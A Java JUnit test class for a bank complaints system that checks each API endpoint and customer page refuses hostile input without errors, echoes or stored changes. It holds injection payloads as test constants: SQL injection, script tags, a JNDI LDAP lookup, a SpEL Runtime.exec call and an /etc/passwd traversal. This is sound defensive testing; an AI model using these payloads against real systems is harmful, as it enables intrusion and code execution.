package com.bank.complaints.system;

import static com.bank.complaints.TestComplaints.feeComplaint;
import static com.bank.complaints.lifecycle.ComplaintLifecycle.Activities.AWAIT_EVIDENCE;
import static com.bank.complaints.lifecycle.ComplaintLifecycle.Activities.INVESTIGATE_COMPLAINT;
import static com.bank.complaints.lifecycle.ComplaintLifecycle.Activities.RECORD_CUSTOMER_DECISION;
import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;

import com.bank.complaints.CaseDriver;
import com.bank.complaints.Desk;
import com.bank.complaints.DeskTest;
import com.bank.complaints.customer.SignedLinks;
import com.bank.complaints.customer.SignedLinks.Purpose;
import com.bank.complaints.lifecycle.ComplaintLifecycle.Variables;
import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.util.LinkedMultiValueMap;
import org.springframework.util.MultiValueMap;
import org.springframework.web.util.UriComponentsBuilder;

/**
 * Issue 18.5, a catalogue of hostile input at every door beyond intake (intake has IntakeApiTest): each row
 * is a door, the field attacked and the value sent. An API answers 400 naming the field in its problem's
 * "errors"; a page a person reads (the customer's answer page, the dashboard) answers 400 or 404 with its
 * own page, never echoing the input unescaped. Never a 500, and nothing is stored: every table of the
 * database (the desk's, the engine's, the outbox) has as many rows as before, and no process variable,
 * execution or task has changed.
 * <p>
 * The values are written as JSON so that what no browser sends can be sent: a lone surrogate (\uD800),
 * a NUL, a 10,000-item array where one value belongs. Injection strings (SQL, script, JNDI, SpEL, path
 * traversal) are tried where a field has a shape (ids, references, choices, dates, codes): in free text
 * they are just words, stored as written and never run, which the queries' bound parameters and the
 * pages' escaping ensure. A '/' in a value sent as part of a path (a traversal, a JNDI URL) is refused by the
 * web server itself, with a plain 400, before any door sees it.
 */
@DeskTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@DisplayName("issue 18.5 hostile input at every door")
class HostileInputTest {

    // ---- the hostile values, as JSON ----
    static final String OVERSIZED = quoted("x".repeat(100_000));
    static final String OBJECT = "{\"$gt\": \"\"}";
    static final String ARRAY = "[\"a\", \"b\"]";
    static final String ARRAY_10K = "[" + "\"x\",".repeat(9_999) + "\"x\"]";
    static final String HUGE_NUMBER = "1" + "0".repeat(400);
    static final String RTL = quoted("invoice\\u202Egpj.exe");
    static final String ZERO_WIDTH = quoted("pay\\u200Bment");
    static final String BOM = quoted("\\uFEFFnote");
    static final String LONE_SURROGATE = quoted("half \\uD800 a character");
    static final String NUL = quoted("nul\\u0000byte");
    static final String SQL = quoted("' OR 1=1 --");
    static final String SCRIPT = quoted("<script>alert(185)</script>");
    static final String JNDI = quoted("${jndi:ldap://x.example/a}");
    static final String SPEL = quoted("#{T(java.lang.Runtime).getRuntime().exec('id')}");
    static final String TRAVERSAL = quoted("../../etc/passwd");
    static final String NO_DAY = quoted("2026-02-30");
    static final String YESTERDAY = quoted("yesterday");

    /** Hostile free text: each must be refused by the shared check (TextInput). */
    static final Map<String, String> BAD_TEXT = named("oversized 100 kB", OVERSIZED, "object", OBJECT, "array", ARRAY,
            "10,000-item array", ARRAY_10K, "RTL override", RTL, "zero-width space", ZERO_WIDTH, "BOM", BOM,
            "lone surrogate", LONE_SURROGATE, "NUL byte", NUL);
    /** Hostile values for a field with a shape (a choice, a code, a date). */
    static final Map<String, String> BAD_SHAPE = named("SQL", SQL, "script", SCRIPT, "JNDI", JNDI, "SpEL", SPEL,
            "path traversal", TRAVERSAL, "number", "42", "huge number", HUGE_NUMBER, "object", OBJECT,
            "10,000-item array", ARRAY_10K, "oversized 100 kB", OVERSIZED, "RTL override", RTL, "NUL byte", NUL);
    /** Hostile ids and references in a path, as sent (encoded by the client). */
    static final Map<String, String> BAD_ID = named("word", "abc", "negative", "-1", "zero", "0", "20 digits",
            "9".repeat(20), "SQL", "1 OR 1=1", "SpEL", "#{7*7}", "oversized", "9".repeat(5_000));
    static final Map<String, String> BAD_REFERENCE = named("wrong shape", "cc_20261123_42", "SQL", "' OR 1=1 --",
            "script", "<script>", "JNDI", "${jndi:ldap://x}", "SpEL", "#{7*7}", "oversized", "CC-" + "1".repeat(5_000),
            "zero-width", "CC-20261123\u200B-000001", "RTL override", "CC-\u202E20261123-000001");
    /** Hostile query parameters (a GET's URL holds at most a few kB, so "oversized" is 4,000 characters). */
    static final Map<String, String> BAD_QUERY = named("SQL", "' OR 1=1 --", "script", "<script>alert(185)</script>",
            "JNDI", "${jndi:ldap://x}", "SpEL", "#{7*7}", "path traversal", "../../etc/passwd", "oversized",
            "x".repeat(4_000), "RTL override", "a\u202Eb", "zero-width", "a\u200Bb", "huge number", "9".repeat(60));

    @Autowired
    Desk desk;
    @Autowired
    CaseDriver cases;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    SignedLinks links;

    /**
     * What the doors are tried on, by the name the rows use ({awaitingEvidence}, {offerToken}, ...): made by
     * the first case, as the engine records a test's coverage only while a test runs.
     */
    final Map<String, String> given = new LinkedHashMap<>();
    int tried;
    int refused;

    private void complaintsInTheStateEachDoorNeeds() {
        if (!given.isEmpty()) {
            return;
        }
        given.put("awaitingEvidence", awaitingEvidence());
        String investigating = cases.submit(feeComplaint());
        given.put("investigating", investigating);
        String atDecision = cases.submit(feeComplaint());
        cases.investigate(atDecision, "FACT_CLEAR");
        cases.propose(atDecision, "handler", "FEE_WAIVER", 128.5);
        assertThat(cases.openTasks(atDecision)).containsExactly(RECORD_CUSTOMER_DECISION);
        given.put("atDecision", atDecision);
        given.put("offerToken", token(links.url(atDecision, Purpose.OFFER)));
        given.put("surveyToken", token(links.url(atDecision, Purpose.SURVEY)));
        OffsetDateTime now = OffsetDateTime.now(ZoneOffset.UTC);
        jdbc.update("INSERT INTO pattern_flag (kind, subject_key, first_reference, subject, sample, complaint_count, "
                + "first_seen, last_seen, status, created_at) VALUES ('CUSTOMER', 'hostile-input', ?, 'A probe', "
                + "NULL, 1, ?, ?, 'OPEN', ?)", investigating, now, now, now);
        given.put("flag", String.valueOf(jdbc.queryForObject(
                "SELECT id FROM pattern_flag WHERE subject_key = 'hostile-input'", Long.class)));
        given.put("action", String.valueOf(desk.as("supervisor").postForEntity("/api/improvement-actions",
                Desk.json(Map.of("axis", "PROCESS", "cause", "FEE_RULES_UNCLEAR", "title", "Clearer fee rules",
                        "owner", "handler")), Map.class).getBody().get("id")));
    }

    @AfterAll
    void figures() {
        System.out.printf("issue 18.5 hostile input: %d cases run, %d refused as expected (no 500, nothing stored)%n",
                tried, refused);
    }

    // ---- the catalogue: the API's doors ----

    Stream<Arguments> apiDoors() {
        List<Arguments> rows = new ArrayList<>();
        String evidence = "/api/complaints/{awaitingEvidence}/evidence";
        text(rows, "evidence", "agent", evidence, "summary");
        body(rows, "evidence", "agent", evidence, "{\"summary\": \"Screenshots.\"");
        unknownField(rows, "evidence", "agent", evidence, "{\"summary\": \"Screenshots.\", \"evidenceReceived\": true}",
                "evidenceReceived");
        references(rows, "evidence", "agent", HttpMethod.POST, "/api/complaints/{}/evidence", "{\"summary\": \"Screenshots.\"}");

        String extension = "/api/complaints/{investigating}/extension";
        text(rows, "extension", "handler", extension, "reason");
        body(rows, "extension", "handler", extension, "[\"reason\"]");
        unknownField(rows, "extension", "handler", extension, "{\"reason\": \"More time.\", \"approvedBy\": \"senior\"}",
                "approvedBy");
        references(rows, "extension", "handler", HttpMethod.POST, "/api/complaints/{}/extension", "{\"reason\": \"More time.\"}");

        String breach = "/api/complaints/{investigating}/breaches/REPLY/resolution";
        text(rows, "breach resolution", "supervisor", breach, "note");
        body(rows, "breach resolution", "supervisor", breach, "{\"note\": ");
        unknownField(rows, "breach resolution", "supervisor", breach, "{\"note\": \"Called back.\", \"clock\": \"REPLY\"}",
                "clock");
        BAD_QUERY.forEach((what, clock) -> rows.add(row("breach resolution", "clock", what, "supervisor", HttpMethod.POST,
                path("/api/complaints/{investigating}/breaches/{}/resolution", clock), "{\"note\": \"Called back.\"}")));
        references(rows, "breach resolution", "supervisor", HttpMethod.POST, "/api/complaints/{}/breaches/REPLY/resolution",
                "{\"note\": \"Called back.\"}");

        String review = "/api/pattern-flags/{flag}/review";
        fields(rows, "pattern review", "supervisor", review, "note", Map.of("verdict", quoted("SPAM")), BAD_TEXT);
        fields(rows, "pattern review", "supervisor", review, "verdict", Map.of("note", quoted("Looked at it.")), BAD_SHAPE);
        body(rows, "pattern review", "supervisor", review, "{\"verdict\": \"SPAM\" \"note\": \"x\"}");
        unknownField(rows, "pattern review", "supervisor", review,
                "{\"verdict\": \"SPAM\", \"note\": \"x\", \"reviewedBy\": \"compliance\"}", "reviewedBy");
        BAD_ID.forEach((what, id) -> rows.add(row("pattern review", "id", what, "supervisor", HttpMethod.POST,
                path("/api/pattern-flags/{}/review", id), "{\"verdict\": \"SPAM\", \"note\": \"x\"}")));
        BAD_QUERY.forEach((what, status) -> rows.add(row("pattern flags", "status", what, "supervisor", HttpMethod.GET,
                query("/api/pattern-flags", "status", status), null)));

        Map<String, String> opening = Map.of("axis", quoted("PROCESS"), "cause", quoted("FEE_RULES_UNCLEAR"),
                "title", quoted("Clearer fee rules"), "owner", quoted("handler"), "dueOn", quoted("2099-01-01"));
        fields(rows, "improvement action", "supervisor", "/api/improvement-actions", "title", opening, BAD_TEXT);
        for (String field : List.of("axis", "cause", "owner", "dueOn")) {
            fields(rows, "improvement action", "supervisor", "/api/improvement-actions", field, opening, BAD_SHAPE);
        }
        fields(rows, "improvement action", "supervisor", "/api/improvement-actions", "dueOn", opening,
                named("February 30th", NO_DAY, "yesterday", YESTERDAY, "in the past", quoted("2001-01-01")));
        body(rows, "improvement action", "supervisor", "/api/improvement-actions", "{\"axis\": \"PROCESS\",");
        unknownField(rows, "improvement action", "supervisor", "/api/improvement-actions",
                "{\"axis\": \"PROCESS\", \"cause\": \"FEE_RULES_UNCLEAR\", \"title\": \"t\", \"owner\": \"handler\", "
                        + "\"completedAt\": \"2026-01-01T00:00:00Z\"}", "completedAt");
        String complete = "/api/improvement-actions/{action}/complete";
        text(rows, "improvement action completion", "supervisor", complete, "outcome");
        unknownField(rows, "improvement action completion", "supervisor", complete,
                "{\"outcome\": \"Done.\", \"completedBy\": \"ceo\"}", "completedBy");
        BAD_ID.forEach((what, id) -> {
            rows.add(row("improvement action", "id", what, "supervisor", HttpMethod.GET,
                    path("/api/improvement-actions/{}", id), null));
            rows.add(row("improvement action completion", "id", what, "supervisor", HttpMethod.POST,
                    path("/api/improvement-actions/{}/complete", id), "{\"outcome\": \"Done.\"}"));
        });
        BAD_QUERY.forEach((what, status) -> rows.add(row("improvement actions", "status", what, "supervisor",
                HttpMethod.GET, query("/api/improvement-actions", "status", status), null)));

        references(rows, "status query", null, HttpMethod.GET, "/api/complaints/{}/status?phoneLast4=1234", null);

        for (String parameter : List.of("product", "category", "cause", "remedy", "page", "size", "format")) {
            BAD_QUERY.forEach((what, value) -> rows.add(row("case library", parameter, what, "handler", HttpMethod.GET,
                    query("/api/case-library", parameter, value), null)));
        }
        // the search text is words: injection strings are searched for as written; what cannot be words is refused
        named("oversized", "x".repeat(4_000), "RTL override", "a\u202Eb", "zero-width", "a\u200Bb", "NUL byte", "a\u0000b")
                .forEach((what, value) -> rows.add(row("case library", "q", what, "handler", HttpMethod.GET,
                        query("/api/case-library", "q", value), null)));
        references(rows, "case library", "handler", HttpMethod.GET, "/api/case-library/{}", null);

        Map<String, List<String>> reports = new LinkedHashMap<>();
        reports.put("/api/reports/kpis", List.of("from", "to", "channel", "category", "format"));
        reports.put("/api/reports/trend", List.of("from", "bucket"));
        reports.put("/api/reports/dimensions", List.of("to", "dimension"));
        reports.put("/api/reports/root-causes", List.of("month", "months", "top", "format"));
        reports.put("/api/reports/improvement-actions", List.of("format"));
        reports.forEach((report, parameters) -> parameters.forEach(parameter -> {
            BAD_QUERY.forEach((what, value) -> rows.add(row("report " + report.substring(13), parameter, what,
                    "compliance", HttpMethod.GET, query(report, parameter, value), null)));
        }));
        for (String date : List.of("2026-02-30", "yesterday", "20260101", "-999999999-01-01")) {
            rows.add(row("report kpis", "from", date, "compliance", HttpMethod.GET, query("/api/reports/kpis", "from", date), null));
        }
        rows.add(row("report root-causes", "month", "2026-13", "compliance", HttpMethod.GET,
                query("/api/reports/root-causes", "month", "2026-13"), null));
        return rows.stream();
    }

    @ParameterizedTest(name = "{0}: {1} ← {2}")
    @MethodSource("apiDoors")
    @DisplayName("issue 18.5 an API door refuses the hostile value with a 400 naming the field; never a 500, nothing stored")
    void apiDoorRefusesNamingTheField(String door, String field, String what, Request request) {
        complaintsInTheStateEachDoorNeeds();
        Map<String, Long> before = database();

        ResponseEntity<String> response = request.send(desk, given);

        tried++;
        assertThat(response.getStatusCode().value()).as(request + " answered " + response.getBody()).isEqualTo(400);
        if (request.slashInPath()) {
            // the web server refuses an encoded '/' in a path (it could climb out of it) before any door sees it
            assertThat(response.getBody()).contains("Bad Request")
                    .doesNotContain("jndi", "script", "passwd", "Tomcat/");
        } else {
            JsonNode problem = Desk.parse(response.getBody());
            assertThat(problem.at("/errors").findValuesAsText("field")).as(response.getBody()).contains(field);
            assertThat(response.getBody()).doesNotContain("<script>", "Exception", "SQL");
        }
        assertThat(database()).isEqualTo(before);
        refused++;
    }

    // ---- the catalogue: pages people read ----

    Stream<Arguments> pages() {
        List<Arguments> rows = new ArrayList<>();
        BAD_QUERY.forEach((what, token) -> {
            rows.add(row("customer answer page", "token", what, null, HttpMethod.GET, query("/customer/respond", "token", token), null));
            rows.add(form("customer answer", "token", what, Map.of("token", token, "answer", "accept")));
        });
        BAD_QUERY.forEach((what, answer) -> {
            rows.add(form("customer offer answer", "answer", what, Map.of("token", "{offerToken}", "answer", answer)));
            rows.add(form("customer survey answer", "answer", what, Map.of("token", "{surveyToken}", "answer", answer)));
            rows.add(form("customer offer answer", "option", what, Map.of("token", "{offerToken}", "answer", "accept",
                    "option", answer)));
        });
        for (Map.Entry<String, String> reason : named("oversized 100 kB", "x".repeat(100_000), "RTL override",
                "fine\u202Eenif", "zero-width space", "no\u200Bthanks", "BOM", "\uFEFFno", "NUL byte", "no\u0000thanks")
                .entrySet()) {
            rows.add(form("customer offer rejection", "reason", reason.getKey(), Map.of("token", "{offerToken}",
                    "answer", "reject", "reason", reason.getValue())));
        }
        for (String parameter : List.of("from", "to", "channel", "category", "bucket")) {
            BAD_QUERY.forEach((what, value) -> rows.add(row("dashboard", parameter, what, "compliance", HttpMethod.GET,
                    query("/dashboard", parameter, value), null)));
        }
        rows.add(row("dashboard", "from", "2026-02-30", "compliance", HttpMethod.GET, query("/dashboard", "from", "2026-02-30"), null));
        return rows.stream();
    }

    @ParameterizedTest(name = "{0}: {1} ← {2}")
    @MethodSource("pages")
    @DisplayName("issue 18.5 a page answers the hostile value with its error page or the form again; never a 500, never the input unescaped, nothing stored")
    void pageRefusesWithoutEchoing(String door, String field, String what, Request request) {
        complaintsInTheStateEachDoorNeeds();
        Map<String, Long> before = database();

        ResponseEntity<String> response = request.send(desk, given);

        tried++;
        assertThat(response.getStatusCode().value()).as(request + " answered " + response.getBody()).isIn(400, 404);
        assertThat(response.getHeaders().getContentType().isCompatibleWith(MediaType.TEXT_HTML)).isTrue();
        assertThat(response.getBody()).doesNotContain("<script>alert(185)", "Exception");
        assertThat(database()).isEqualTo(before);
        assertThat(cases.openTasks(given.get("atDecision"))).containsExactly(RECORD_CUSTOMER_DECISION);
        refused++;
    }

    @Test
    @DisplayName("issue 18.5 injection strings in free text are words: stored as written, run nowhere")
    void injectionInFreeTextIsStoredAsWritten() {
        String reference = awaitingEvidence();
        String words = "' OR 1=1 -- <script>alert(185)</script> ${jndi:ldap://x} #{7*7} ../../etc/passwd";

        ResponseEntity<String> response = desk.as("agent").postForEntity("/api/complaints/{ref}/evidence",
                Desk.json(Map.of("summary", words)), String.class, reference);

        assertThat(response.getStatusCode().value()).isEqualTo(202);
        assertThat(cases.variable(reference, Variables.EVIDENCE_SUMMARY)).isEqualTo(words);
    }

    private String awaitingEvidence() {
        String reference = cases.submit(feeComplaint());
        cases.complete(reference, INVESTIGATE_COMPLAINT, "handler", Map.of(Variables.INVESTIGATION_NOTES,
                "Ledger checked.", Variables.EVIDENCE_NEEDED, true, Variables.EVIDENCE_REQUEST, "The SMS notices."));
        assertThat(cases.openTasks(reference)).containsExactly(AWAIT_EVIDENCE);
        return reference;
    }

    // ---- how the rows are made ----

    /**
     * A door's request: method, URL (already encoded), JSON or form body, and who sends it (null: anonymous);
     * {name} in the URL or a form's value stands for what {@link #given} holds under that name.
     */
    record Request(String user, HttpMethod method, String url, HttpEntity<byte[]> json, Map<String, String> form) {

        ResponseEntity<String> send(Desk desk, Map<String, String> given) {
            HttpEntity<?> body = json;
            if (form != null) {
                MultiValueMap<String, String> fields = new LinkedMultiValueMap<>();
                form.forEach((name, value) -> fields.add(name, resolved(value, given)));
                HttpHeaders headers = new HttpHeaders();
                headers.setContentType(new MediaType(MediaType.APPLICATION_FORM_URLENCODED, StandardCharsets.UTF_8));
                body = new HttpEntity<>(fields, headers);
            }
            return (user == null ? desk.anonymous() : desk.as(user)).exchange(URI.create(resolved(url, given)), method,
                    body, String.class);
        }

        private static String resolved(String text, Map<String, String> given) {
            String resolved = text;
            for (Map.Entry<String, String> value : given.entrySet()) {
                resolved = resolved.replace("{" + value.getKey() + "}", value.getValue());
            }
            return resolved;
        }

        boolean slashInPath() {
            return url.split("\\?")[0].contains("%2F");
        }

        @Override
        public String toString() {
            return method + " " + url;
        }
    }

    private static void text(List<Arguments> rows, String door, String user, String url, String field) {
        fields(rows, door, user, url, field, Map.of(), BAD_TEXT);
    }

    /** One row per value: the field set to it, the other fields as given (valid). */
    private static void fields(List<Arguments> rows, String door, String user, String url, String field,
            Map<String, String> others, Map<String, String> values) {
        values.forEach((what, value) -> {
            Map<String, String> body = new TreeMap<>(others);
            body.put(field, value);
            rows.add(row(door, field, what, user, HttpMethod.POST, url, jsonObject(body)));
        });
    }

    private static void body(List<Arguments> rows, String door, String user, String url, String malformed) {
        rows.add(row(door, "body", "malformed JSON", user, HttpMethod.POST, url, malformed));
    }

    private static void unknownField(List<Arguments> rows, String door, String user, String url, String body, String field) {
        rows.add(row(door, field, "unknown field", user, HttpMethod.POST, url, body));
    }

    private static void references(List<Arguments> rows, String door, String user, HttpMethod method, String template,
            String body) {
        BAD_REFERENCE.forEach((what, reference) -> rows.add(row(door, "reference", what, user, method,
                path(template, reference), body)));
    }

    private static Arguments row(String door, String field, String what, String user, HttpMethod method, String url,
            String json) {
        return Arguments.of(door, field, what, new Request(user, method, url, json == null ? null : json(json), null));
    }

    private static Arguments form(String door, String field, String what, Map<String, String> fields) {
        return Arguments.of(door, field, what, new Request(null, HttpMethod.POST, "/customer/respond", null, fields));
    }

    private static HttpEntity<byte[]> json(String json) {
        HttpHeaders headers = new HttpHeaders();
        headers.setContentType(MediaType.APPLICATION_JSON);
        return new HttpEntity<>(json.getBytes(StandardCharsets.UTF_8), headers);
    }

    /** The template's {} replaced by the value as one path segment, percent-encoded as a client sends it. */
    private static String path(String template, String value) {
        int at = template.indexOf("{}");
        String encoded = UriComponentsBuilder.newInstance().pathSegment(value).build().encode().toUriString().substring(1);
        return template.substring(0, at) + encoded + template.substring(at + 2);
    }

    private static String query(String path, String name, String value) {
        return UriComponentsBuilder.fromPath(path).queryParam(name, "{v}").encode().buildAndExpand(value).toUriString();
    }

    private static String jsonObject(Map<String, String> fields) {
        StringBuilder json = new StringBuilder("{");
        fields.forEach((name, value) -> json.append(json.length() > 1 ? ", " : "").append(quoted(name)).append(": ").append(value));
        return json.append('}').toString();
    }

    private static String quoted(String text) {
        return "\"" + text.replace("\"", "\\\"") + "\"";
    }

    private static Map<String, String> named(String... whatAndValue) {
        Map<String, String> values = new LinkedHashMap<>();
        for (int i = 0; i < whatAndValue.length; i += 2) {
            values.put(whatAndValue[i], whatAndValue[i + 1]);
        }
        return values;
    }

    private static String token(String url) {
        return UriComponentsBuilder.fromUriString(url).build().getQueryParams().getFirst("token");
    }

    /**
     * What is stored: the rows of every table (the desk's, the engine's, the outbox), and the revisions of the
     * engine's variables, executions and tasks, which any change to them raises.
     */
    private Map<String, Long> database() {
        Map<String, Long> counts = new TreeMap<>();
        for (String table : jdbc.queryForList("SELECT TABLE_NAME FROM INFORMATION_SCHEMA.TABLES "
                + "WHERE TABLE_SCHEMA = 'PUBLIC' AND TABLE_TYPE = 'BASE TABLE'", String.class)) {
            counts.put(table, jdbc.queryForObject("SELECT COUNT(*) FROM \"" + table + "\"", Long.class));
        }
        for (String table : List.of("ACT_RU_VARIABLE", "ACT_RU_EXECUTION", "ACT_RU_TASK")) {
            counts.put(table + " revisions", jdbc.queryForObject("SELECT COALESCE(SUM(REV_), 0) FROM " + table, Long.class));
        }
        counts.put("pattern flags reviewed", jdbc.queryForObject(
                "SELECT COUNT(*) FROM pattern_flag WHERE reviewed_by IS NOT NULL", Long.class));
        counts.put("improvement actions completed", jdbc.queryForObject(
                "SELECT COUNT(*) FROM improvement_action WHERE completed_at IS NOT NULL", Long.class));
        return counts;
    }
}
